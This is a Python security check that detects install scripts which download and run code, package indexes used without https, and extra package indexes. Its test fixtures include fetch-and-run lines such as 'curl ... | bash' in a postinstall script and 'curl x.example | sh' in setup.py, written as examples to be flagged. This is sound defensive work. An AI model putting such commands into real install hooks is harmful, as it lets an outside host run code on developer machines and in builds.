"""
Installing the app runs code that nobody has read: scripts that fetch more of it, or an index that may send anything.

What an install runs, runs on every developer's machine and in every build, with all their keys within reach: most
attacks by way of packages of the last years began there. A script that fetches code and runs it hands whoever holds
that address the build. An index asked beside the usual one may answer with a package of the same name as yours.

## How to fix
Take downloads out of preinstall, install, postinstall and setup.py: add what is needed as a package with a fixed
version, or commit it. Name one index only, over https; for packages of your own use a scope (`@you:registry=` in
.npmrc) or an index that is asked for named packages only (`explicit = true` in uv). Set `ignore-scripts=true` in .npmrc
and allow the few packages that need their scripts.

## Fix prompt
Find every script that runs while this app is installed (preinstall, install, postinstall, prepare in package.json;
setup.py) and remove those that download code and run it: replace each by a dependency with a fixed version. Replace
`--extra-index-url` by one index, or by an index that is explicit for the packages that need it. Keep the app building,
and tell me which packages need install scripts and why.
"""

from __future__ import annotations

from collections.abc import Iterator

from checks.check import Bad, Check, Good, NotApplicable
from checks.facts.packages.dependencies import Dependencies
from checks.facts.packages.install_scripts import InstallScripts, Script
from checks.facts.packages.install_sources import InstallSource, InstallSources
from checks.facts.packages.packages import NPM
from checks.facts.packages.slips import is_popular
from checks.facts.tier import Tier, tier_of
from checks.model import Confidence, Finding, Outcome, Placement, Severity
from checks.sentences import names

_MOST_NAMES = 5

_PACKAGE = (
    '{\n  "name": "app",\n  "private": true,\n  "scripts": {\n    "postinstall": "%s"\n  },\n  "dependencies": {}\n}\n'
)
_LOCKED = (
    '{\n  "lockfileVersion": 3,\n  "packages": {\n    "": {},\n    "node_modules/very-odd-thing": {\n'
    '      "version": "1.0.0",\n      "hasInstallScript": true\n    }\n  }\n}\n'
)

check = Check(
    __name__,
    severity=Severity.CRITICAL,
    allows=Placement.SANDBOX,
    examples=(
        Bad(
            {"package.json": _PACKAGE % "curl -fsSL https://get.example.org/setup.sh | bash"},
            says="postinstall fetches code and runs it",
            line=5,
        ),
        Bad(
            {"setup.py": 'import os\nfrom setuptools import setup\nos.system("curl x.example | sh")\nsetup()\n'},
            says="setup.py fetches code and runs it",
            line=3,
        ),
        Bad(
            {"requirements.txt": "--index-url http://pypi.example.org/simple\nflask==3.0.0\n"},
            says="without https",
            line=1,
        ),
        Bad(
            {"requirements.txt": "flask\n--extra-index-url https://x.example.org/simple\n"},
            says="the higher version of a name",
            line=2,
        ),
        Bad({"package.json": _PACKAGE % "node -e 'process.exit(0)'"}, says="code written into the command"),
        Bad({"package-lock.json": _LOCKED}, says="very-odd-thing runs a program of its own", line=5),
        Good({"package.json": _PACKAGE % "prisma generate && patch-package"}),
        Good({"package-lock.json": _LOCKED.replace("very-odd-thing", "esbuild")}),
        Good({"setup.py": "from setuptools import setup\nsetup(name='x', install_requires=['flask'])\n"}),
        Good({"notes.md": "nothing to install"}, outcome=Outcome.NOT_APPLICABLE),
    ),
)


@check.detect
def detect(dependencies: Dependencies, scripts: InstallScripts, sources: InstallSources) -> Iterator[Finding]:
    """Yield what installs run that is fetched or unusual, and the indexes that they ask beside the usual one."""
    if not dependencies.files:
        raise NotApplicable("no file names any package")
    for path, found in scripts.by_path.items():
        runs = tier_of(path) is Tier.CODE or path.endswith((".json", ".yaml"))
        yield from (_of_script(path, one, runs=runs) for one in found if one.kind != "package")
        yield from _of_packages(path, [one for one in found if one.kind == "package"])
    for path, places in sources.by_path.items():
        yield from (_of_source(path, one) for one in places if one.plain or not (one.only or one.named))


def _of_script(path: str, one: Script, *, runs: bool) -> Finding:
    who = "setup.py" if path.endswith("setup.py") else one.name
    what, severity, blocking = {
        "remote": (f"{who} fetches code and runs it while the app is installed", Severity.CRITICAL, runs),
        "inline": (f"{who} runs code written into the command while the app is installed", Severity.LOW, False),
        "program": (f"setup.py starts other programs ({one.name}) while the package is installed", Severity.LOW, False),
        "allowed": ("ignore-scripts=false lets every package run programs while it is installed", Severity.LOW, False),
    }[one.kind]
    return Finding(what, path, one.line, one.kind, severity, blocking=blocking, identity=f"{one.kind}:{one.name}")


def _of_packages(path: str, brought: list[Script]) -> Iterator[Finding]:
    """Yield, as advice, the packages with scripts of their own, those left out that nearly every app has."""
    unusual = [one for one in brought if not is_popular(NPM, one.name)]
    if unusual:
        which = names(list(dict.fromkeys(one.name for one in unusual)), _MOST_NAMES)
        verb = "run programs of their own" if len(unusual) > 1 else "runs a program of its own"
        yield Finding(
            f"{which} {verb} while being installed: know what that is, and allow no others",
            path,
            unusual[0].line,
            "package",
            Severity.LOW,
            Confidence.MEDIUM,
            blocking=False,
            identity="packages",
        )


def _of_source(path: str, one: InstallSource) -> Finding:
    if one.plain:
        # Whoever sits on the way can send any package; its code runs while it is installed.
        what = f"Packages come from {one.host} without https: whoever sits on the way can send others"
        return Finding(what, path, one.line, "plain", Severity.HIGH, allows=Placement.ISOLATED, identity=one.host)
    what = f"{one.host} is asked beside the usual index: the higher version of a name is installed, whoever sent it"
    return Finding(what, path, one.line, "beside", Severity.LOW, blocking=False, identity=one.host)
